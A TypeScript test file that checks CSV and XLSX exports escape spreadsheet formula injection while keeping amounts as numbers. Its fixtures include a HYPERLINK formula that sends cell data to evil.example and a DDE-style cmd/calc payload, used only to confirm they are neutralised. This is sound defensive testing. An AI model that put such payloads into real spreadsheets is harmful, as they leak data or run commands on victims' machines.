// Formula injection in exports: a person named "=HYPERLINK(...)" must come out of every CSV and
// XLSX export as text, while amounts (-1, -400.50, or a JavaScript number) stay numbers.
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeWorkbook } from '../reports/report-output.js';
import { escapeCell } from './escape.js';
import { loadExcelJS } from './exceljs.js';
import { writeCsv, writeXlsx } from './table-writer.js';

const ExcelJS = await loadExcelJS();

const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
const HEADERS = ['姓名', '金额（元）', '退费（分）', '备注'];
const ROWS: (string | number)[][] = [
  [EVIL, '400.00', -1, '+86 138'],
  ['张三', '-1', -40050, '@SUM(A1:A9)'],
  ['李四', '-400.50', 0, '\t=1+1'],
  ['王五', "-1+cmd|' /C calc'!A0", 1.5, '\r=1'],
  ['-', '--1', 12, '-1.'],
];

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'canbao-export-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('escapeCell', () => {
  it('escapes = + @ tab CR always, and - unless the whole cell is a plain decimal number', () => {
    for (const v of [EVIL, '+1', '@x', '\t=1', '\r=1', '-1+1', '-A1', '-', '--1', '-1.', '-1e5', '- 1'])
      expect(escapeCell(v), v).toBe(`'${v}`);
    for (const v of ['-1', '-400.50', '-0', '400.00', '张三', '', '130802199001011234', 'a=1'])
      expect(escapeCell(v), v).toBe(v);
  });
});

describe('exports', () => {
  it('CSV: formula-looking text starts with an apostrophe; numbers are written as numbers', async () => {
    const path = join(dir, 'out.csv');
    await writeCsv(path, HEADERS, ROWS);
    const lines = (await readFile(path, 'utf8')).replace(/^\uFEFF/, '').split('\r\n');
    expect(lines.slice(1, 6)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")",400.00,-1,'+86 138`,
      "张三,-1,-40050,'@SUM(A1:A9)",
      "李四,-400.50,0,'\t=1+1",
      `王五,'-1+cmd|' /C calc'!A0,1.5,"'\r=1"`,
      "'-,'--1,12,'-1.",
    ]);
    // No field of any line begins with a formula character, quoted or not.
    for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+@\t\r]/);
  });

  it('XLSX (table writer and report workbook): text cells, never formulas; numbers stay numbers', async () => {
    const a = join(dir, 'out.xlsx');
    const b = join(dir, 'report.xlsx');
    await writeXlsx(a, '导出', HEADERS, ROWS);
    await writeWorkbook(b, [{ name: '报表', headers: HEADERS, rows: ROWS }]);
    for (const path of [a, b]) {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(path);
      const ws = wb.worksheets[0]!;
      for (let r = 2; r <= ROWS.length + 1; r++)
        for (let c = 1; c <= HEADERS.length; c++)
          expect(ws.getCell(r, c).formula, `${r}:${c}`).toBeUndefined();
      expect(ws.getCell('A2').value).toBe(`'${EVIL}`);
      expect(ws.getCell('B3').value).toBe('-1');
      expect(ws.getCell('C2').value).toBe(-1);
      expect(ws.getCell('C3').value).toBe(-40050);
      expect(ws.getCell('D3').value).toBe("'@SUM(A1:A9)");
      expect(ws.getCell('B5').value).toBe("'-1+cmd|' /C calc'!A0");
    }
  });

  it('every module that writes CSV or XLSX goes through escapeCell or exportCell', async () => {
    const src = join(import.meta.dirname, '..');
    const offenders: string[] = [];
    const walk = async (d: string): Promise<void> => {
      for (const e of await readdir(d, { withFileTypes: true })) {
        const p = join(d, e.name);
        if (e.isDirectory()) await walk(p);
        else if (e.name.endsWith('.ts') && !e.name.endsWith('.test.ts')) {
          const text = await readFile(p, 'utf8');
          const writes =
            /from 'csv-stringify|WorkbookWriter\(|\.xlsx\.write(File|Buffer)\(|\.csv\.write/.test(text);
          if (writes && !/escapeCell|exportCell/.test(text)) offenders.push(relative(src, p));
        }
      }
    };
    await walk(src);
    expect(offenders).toEqual([]);
  });
});
